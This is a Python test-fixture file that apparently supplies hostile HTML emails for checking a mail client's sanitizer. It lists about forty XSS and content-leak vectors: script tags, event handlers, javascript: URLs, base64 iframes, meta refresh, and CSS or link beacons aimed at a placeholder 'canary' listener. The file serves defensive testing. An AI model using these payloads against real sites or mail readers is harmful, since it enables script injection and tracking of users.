"""HTML that a stranger might send: each does harm, or tells tales, in a careless mailbox.

``{canary}`` is an address where someone listens. Whatever executes is to set
``document.title`` or ``window.owned``, here or in the page around.
"""

from __future__ import annotations

import base64

_OWN = "document.title='owned';window.owned=1;try{top.document.title='owned';top.owned=1}catch(e){}"
_FRAME = base64.b64encode(f"<script>{_OWN}</script>".encode()).decode("ascii")

HOSTILE = {
    "script": f"<p>Hi</p><script>{_OWN}</script>",
    "script from elsewhere": "<script src='{canary}/x.js'></script>",
    "module script": f"<script type=module>import '{{canary}}/m.js';{_OWN}</script>",
    "script without end": f"<script>{_OWN}//",
    "script behind a comment": f"<!--><script>{_OWN}</script>-->",
    "script behind a title": f"</title></style></textarea><script>{_OWN}</script>",
    "image that fails": f'<img src="x:y" onerror="{_OWN}">',
    "image in any case": f'<IMG SRC="{{canary}}/i.png" OnError="{_OWN}">',
    "body that loads": f'<body onload="{_OWN}" background="{{canary}}/bg.png">',
    "details that open": f'<details open ontoggle="{_OWN}">x</details>',
    "input that takes focus": (
        f'<input autofocus onfocus="{_OWN}" type=image src="{{canary}}/f.png">'
    ),
    "animated style": (
        f'<style>@keyframes a{{}}b{{animation:a 1ms}}</style><b onanimationstart="{_OWN}">x</b>'
    ),
    "svg with a script": f'<svg onload="{_OWN}"><script>{_OWN}</script></svg>',
    "svg that fetches": (
        '<svg><image href="{canary}/s.png"/><use href="{canary}/u.svg#a"/>'
        '<feImage href="{canary}/fe.png"/></svg>'
    ),
    "svg link with animation": (
        f'<svg><a><animate attributeName=href values="javascript:{_OWN}"/><text>x</text></a></svg>'
    ),
    "mathml": f'<math href="javascript:{_OWN}"><mi xlink:href="{{canary}}/m">x</mi></math>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url={canary}/refresh">',
    "meta refresh to a script": f'<meta http-equiv="refresh" content="0;url=javascript:{_OWN}">',
    "meta policy that allows": (
        '<meta http-equiv="Content-Security-Policy" content="default-src *">'
        f"<script>{_OWN}</script><img src='{{canary}}/p.png'>"
    ),
    "frame": "<iframe src='{canary}/frame'></iframe>",
    "frame with a document": f'<iframe srcdoc="&lt;script&gt;{_OWN}&lt;/script&gt;"></iframe>',
    "frame with a data url": f"<iframe src='data:text/html;base64,{_FRAME}'></iframe>",
    "frameset": "<frameset><frame src='{canary}/set'></frameset>",
    "form": (
        "<form action='{canary}/form' method=post><input name=a value=b autofocus>"
        "<button id=go>Go</button></form>"
    ),
    "form that posts to the page": "<form action='../clear' method=post><button>Go</button></form>",
    "style with urls": (
        "<style>@font-face{font-family:f;src:url({canary}/font)}"
        "body{background:url({canary}/css.png);font-family:f;cursor:url({canary}/c.cur),auto}"
        "li{list-style-image:image-set('{canary}/l.png' 1x)}</style><ul><li>x</ul>"
    ),
    "style import": "<style>@import '{canary}/import.css';@import url({canary}/i2.css);</style>",
    "style attribute": "<p style=\"background-image:url('{canary}/attr.png')\">x</p>",
    "stylesheet": "<link rel=stylesheet href='{canary}/style.css'>",
    "prefetch": (
        "<link rel=prefetch href='{canary}/pf'><link rel=preload as=image href='{canary}/pl'>"
        "<LINK REL=modulepreload HREF='{canary}/mp'><link rel=prerender href='{canary}/pr'>"
    ),
    "connection ahead": (
        "<link rel=preconnect href='{canary}/'><link rel=dns-prefetch href='{canary}/'>"
        "<link/rel=preconnect href='{canary}/'><lINk\nrel=preconnect href='{canary}/'>"
    ),
    "icon and manifest": (
        "<link rel=icon href='{canary}/favicon.ico'><link rel=manifest href='{canary}/m.json'>"
    ),
    "base": "<base href='{canary}/'><img src='relative.png'><script src='relative.js'></script>",
    "object and embed": (
        "<object data='{canary}/object'><embed src='{canary}/embed'></object>"
        "<applet code='{canary}/applet'></applet>"
    ),
    "script link": f'<a href="javascript:{_OWN}" id=go>Press me</a>',
    "link that pings": "<a href='#' ping='{canary}/ping' id=go>Press me</a>",
    "srcset": (
        "<img srcset='{canary}/1.png 1x, {canary}/2.png 2x'>"
        "<picture><source srcset='{canary}/3.png'><img src='{canary}/4.png'></picture>"
    ),
    "video": (
        "<video poster='{canary}/poster.png' src='{canary}/v.mp4' autoplay></video>"
        "<audio src='{canary}/a.mp3' autoplay></audio><track src='{canary}/t.vtt'>"
    ),
    "table background": (
        "<table background='{canary}/t.png'><td background='{canary}/td.png'>x</table>"
    ),
    "speculation": (
        '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{canary}/s"]}]}'
        "</script>"
    ),
    "image of a page": f"<img src='data:image/svg+xml,<svg onload=\"{_OWN}\"/>'><img src=cid:none>",
    "template with a shadow": (
        f"<div><template shadowrootmode=open><script>{_OWN}</script>"
        "<img src='{canary}/shadow.png'></template></div>"
    ),
}


def hostile(name: str, canary: str) -> str:
    """Return one of the mails, with an address for its tales."""
    return HOSTILE[name].replace("{canary}", canary)
